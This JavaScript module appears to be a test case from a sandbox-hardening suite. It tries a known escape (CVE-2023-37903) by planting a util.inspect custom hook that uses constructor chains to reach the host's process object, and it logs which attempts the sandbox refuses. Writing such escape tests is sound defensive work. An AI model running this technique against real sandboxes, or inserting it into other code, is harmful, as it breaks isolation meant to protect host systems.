// Escape attempt: CVE-2023-37903 / GHSA-v37h-5mfm-c47c / GHSA-p5gc-c584-jj6v: a util.inspect custom hook gets the host inspect function when the host formats the object.
// Runs with ../escape-harness.js prepended (pwn, attempt).

module.exports = {
  name: 'escape-inspect-custom',
  description: 'sandbox escape attempt: inspect-custom',
  risk: 'inspect',
  phrases: [],
  params: { marker: { type: 'string' } },
  applies_to: [],
  async run(ctx, params) {
    const marker = params.marker;
    const notes = [];

    const hook = Symbol.for("nodejs.util.inspect.custom");
    const evil = { [hook]: (depth, opts, inspect) => { attempt(notes, "inspect", () => pwn(inspect.constructor("return process")(), marker, notes, "inspect arg")); attempt(notes, "opts", () => pwn(opts.constructor.constructor("return process")(), marker, notes, "inspect opts")); return "x"; } };
    attempt(notes, "send obj", () => __send(evil));
    attempt(notes, "log obj", () => ctx.log(evil));
    const err = new Error("e"); err[hook] = evil[hook];
    try { await ctx.redis(evil, "PING"); } catch (e) { notes.push("redis evil refused"); }
    try { await ctx.logs(evil, evil); } catch (e) { notes.push("logs evil refused"); }
    attempt(notes, "throw", () => { throw err; });
    return { summary: notes.join(' | '), data: notes };
  },
};
